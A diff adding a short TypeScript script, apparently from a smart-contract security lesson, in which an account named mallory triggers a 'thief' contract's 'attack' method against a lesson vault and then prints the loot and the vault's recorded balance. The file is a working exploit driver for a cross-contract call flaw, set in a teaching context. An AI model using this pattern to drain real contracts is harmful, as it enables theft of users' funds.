@@ -1,0 +1,16 @@
+import { Account } from 'near-api-js';
+import { mallory, rpc, tera, thief, vault } from 'crosscall/lesson';
+
+const account = new Account(mallory.id, rpc, mallory.signer);
+
+await account.callFunction({
+  contractId: thief.id,
+  methodName: 'attack',
+  args: { amount: (5n * 10n ** 24n).toString(), times: 4 },
+  gas: 200n * tera,
+});
+
+const look = (contractId: string, method: string, args: Record<string, unknown>) =>
+  rpc.callFunction({ contractId, method, args });
+console.log('loot:', await look(thief.id, 'loot', {}));
+console.log('on the books:', await look(vault.id, 'balance_of', { account_id: thief.id }));
